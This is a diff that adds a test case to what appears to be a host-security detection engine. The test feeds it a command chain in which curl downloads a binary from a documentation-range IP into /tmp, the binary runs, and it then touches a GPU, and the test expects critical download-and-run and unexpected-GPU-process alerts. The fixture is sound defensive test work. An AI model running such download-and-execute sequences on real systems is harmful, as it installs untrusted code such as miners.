@@ -71,3 +71,26 @@ test('chain.shell-download-run: a downloaded, dropped binary opening a pool-port
   );
   assert.ok(chain.evidence.includes(download.id));
 });
+
+test('chain.shell-download-run: a build that named the file, then a download over it, is a download', () => {
+  const dropped: Partial<ProcessV1> = {
+    pid: 5400,
+    exe: '/tmp/w/m',
+    comm: 'm',
+    argv: ['/tmp/w/m'],
+    exeRecentlyWritten: true,
+    exeInWritableDir: true,
+    cwd: '/tmp/w',
+    ancestry: JOB,
+  };
+  const alerts = alertsOf([
+    exec(['/usr/bin/gcc', '--version', '-o', 'm'], { pid: 5350, cwd: '/tmp/w', ancestry: JOB }),
+    exec(['curl', '-so', 'm', 'http://203.0.113.9/m'], { pid: 5360, cwd: '/tmp/w', ancestry: JOB }),
+    exec(['/tmp/w/m'], dropped, '/tmp/w/m'),
+    gpu('NV_ESC_RM_ALLOC', 'HOPPER_COMPUTE_A', dropped),
+  ]);
+  assert.deepEqual(alerts.map((a) => `${a.ruleId}:${a.severity}`).sort(), [
+    'chain.shell-download-run:critical',
+    'gpu.unexpected-process:critical',
+  ]);
+});
